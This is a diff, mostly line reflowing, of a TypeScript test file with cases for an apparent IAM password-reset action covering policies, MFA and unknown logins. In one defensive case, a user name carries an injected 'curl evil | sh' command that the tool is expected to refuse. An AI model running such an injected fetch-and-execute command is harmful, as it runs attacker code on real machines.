@@ -19,8 +19,10 @@ const policy: PasswordPolicy = {
 const login = (required: boolean) => is({ created: is('2025-06-01T00:00:00Z'), passwordResetRequired: is(required) });
 /** When the password was changed is in the credential report alone, and no event tells it. */
 const undated = unknown('the credential report was not read');
-const alice = (over: Partial<User> = {}) => madeUser('alice', { login: login(false), passwordLastChanged: undated, passwordLastUsed: is('2026-02-20T09:00:00Z'), ...over });
-const account = (user: User, passwordPolicy: PasswordPolicy = policy) => madeAccount({ users: [user], over: { passwordPolicy: is(passwordPolicy) } });
+const alice = (over: Partial<User> = {}) =>
+  madeUser('alice', { login: login(false), passwordLastChanged: undated, passwordLastUsed: is('2026-02-20T09:00:00Z'), ...over });
+const account = (user: User, passwordPolicy: PasswordPolicy = policy) =>
+  madeAccount({ users: [user], over: { passwordPolicy: is(passwordPolicy) } });
 const own = { Effect: 'Allow', Action: 'iam:ChangePassword', Resource: 'arn:aws:iam::*:user/${aws:username}' };
 const inline = (...statements: object[]) => ({ inline: held({ self: is(document(statements)) }) });
 const noPolicy = (user: User) => madeAccount({ users: [user], over: { passwordPolicy: none } });
@@ -50,7 +52,13 @@ export const cases: readonly ActionCase[] = [
     state: account(alice({ attached: someMembers({}, 'not read') })),
     says: ['may change its own password is not certain'],
   },
-  { name: 'an account that lets nobody change passwords', state: noPolicy(alice()), target, expect: 'refused', says: ['no policy allows it', 'set-password-policy'] },
+  {
+    name: 'an account that lets nobody change passwords',
+    state: noPolicy(alice()),
+    target,
+    expect: 'refused',
+    says: ['no policy allows it', 'set-password-policy'],
+  },
   {
     name: 'a user that is denied everything without MFA would never get in again',
     state: account(alice(inline(withoutMfa))),
@@ -67,7 +75,13 @@ export const cases: readonly ActionCase[] = [
   },
   { name: 'one that must do so already', state: account(alice({ login: login(true) })), target, expect: 'nothing' },
   { name: 'a user without a password', state: account(madeUser('alice')), target, expect: 'nothing' },
-  { name: 'a login that is not known', state: account(alice({ login: unknown('access denied', 'iam:GetLoginProfile') })), target, expect: 'refused', says: ['iam:GetLoginProfile'] },
+  {
+    name: 'a login that is not known',
+    state: account(alice({ login: unknown('access denied', 'iam:GetLoginProfile') })),
+    target,
+    expect: 'refused',
+    says: ['iam:GetLoginProfile'],
+  },
   {
     name: 'a demand that is not known could not be taken back as it was',
     state: account(alice({ login: is({ created: is('2025-06-01T00:00:00Z'), passwordResetRequired: unknown('not read') }) })),
@@ -79,7 +93,7 @@ export const cases: readonly ActionCase[] = [
   {
     name: 'a name that IAM never gave',
     state: account({ ...alice(), name: "alice'; curl evil | sh; '" }),
-    target: 'user:alice\'; curl evil | sh; \'',
+    target: "user:alice'; curl evil | sh; '",
     expect: 'refused',
     says: ['is no name that IAM gives to a user'],
   },
